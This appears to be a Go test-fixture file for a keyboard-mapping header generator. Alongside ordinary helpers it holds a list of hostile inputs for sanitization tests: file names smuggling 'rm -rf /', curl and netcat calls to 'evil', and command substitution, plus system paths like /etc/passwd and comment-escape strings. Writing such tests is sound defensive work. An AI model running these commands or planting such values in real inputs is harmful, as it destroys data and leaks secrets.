// Package testutils holds fixtures shared by the package tests.
package testutils

import (
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/conneroisu/keymapgen/internal/catalog"
)

// SmallCatalog has two target-less rows sharing one numeric code and scancode,
// and an event pair (Enter, NumpadEnter) whose default-seed hashes agree in
// the low 16 bits.
var SmallCatalog = []catalog.KeyDescriptor{
	{Code: 0x001E, EventCode: "KeyA", Scancode: "DOM_PK_A", Target: "GLFW_KEY_A"},
	{Code: 0x001C, EventCode: "Enter", Scancode: "DOM_PK_ENTER", Target: "GLFW_KEY_ENTER"},
	{Code: 0xE01C, EventCode: "NumpadEnter", Scancode: "DOM_PK_NUMPAD_ENTER", Target: "GLFW_KEY_KP_ENTER"},
	{Code: 0x0000, EventCode: "Unidentified", Scancode: "DOM_PK_UNKNOWN"},
	{Code: 0x0000, EventCode: "Lang5", Scancode: "DOM_PK_UNKNOWN"},
}

// CreateTempProject creates a temporary working tree with an include/
// directory for generated headers.
func CreateTempProject(t *testing.T) string {
	t.Helper()
	tempDir := t.TempDir()
	require.NoError(t, os.MkdirAll(filepath.Join(tempDir, "include"), 0755))
	return tempDir
}

// WriteCatalog writes keys as a YAML catalog named name inside dir and returns
// its path.
func WriteCatalog(t *testing.T, dir, name string, keys ...catalog.KeyDescriptor) string {
	t.Helper()
	data, err := catalog.New(name, keys...).Marshal()
	require.NoError(t, err)
	path := filepath.Join(dir, name)
	require.NoError(t, os.WriteFile(path, data, 0644))
	return path
}

// WriteConfig writes content as .keymapgen.yml inside dir and returns its path.
func WriteConfig(t *testing.T, dir, content string) string {
	t.Helper()
	path := filepath.Join(dir, ".keymapgen.yml")
	require.NoError(t, os.WriteFile(path, []byte(content), 0644))
	return path
}

// SecurityTestCases are inputs that must never reach a path or a generated
// comment unchanged.
var SecurityTestCases = struct {
	CommandInjection []string
	SystemPaths      []string
	CommentEscapes   []string
}{
	CommandInjection: []string{
		"KeyboardMapping.h; rm -rf /",
		"KeyboardMapping.h && curl evil",
		"KeyboardMapping.h | nc evil 4444",
		"KeyboardMapping`id`.h",
		"KeyboardMapping$(id).h",
		"KeyboardMapping.h\nrm -rf /",
	},
	SystemPaths: []string{
		"/etc/passwd",
		"/proc/self/environ",
		"/sys/kernel/notes",
		"/dev/null",
		"/boot/KeyboardMapping.h",
	},
	CommentEscapes: []string{
		"*/ #include </etc/passwd> /*",
		"Copyright\n#define EVIL 1",
		"Copyright\r\nevil",
		"Copyright\x00",
	},
}

// AssertFilePermissions checks the permission bits of a file.
func AssertFilePermissions(t *testing.T, path string, expectedMode os.FileMode) {
	t.Helper()
	info, err := os.Stat(path)
	require.NoError(t, err)

	actualMode := info.Mode()
	require.Equal(t, expectedMode, actualMode&os.FileMode(0777),
		"File %s has incorrect permissions: got %o, want %o",
		path, actualMode&os.FileMode(0777), expectedMode)
}

// WaitForFileChange waits for a file to be modified after originalModTime.
func WaitForFileChange(
	t *testing.T,
	filePath string,
	originalModTime time.Time,
	timeout time.Duration,
) {
	t.Helper()
	deadline := time.Now().Add(timeout)

	for time.Now().Before(deadline) {
		info, err := os.Stat(filePath)
		if err == nil && info.ModTime().After(originalModTime) {
			return
		}
		time.Sleep(10 * time.Millisecond)
	}

	t.Fatalf("File %s was not modified within %v", filePath, timeout)
}
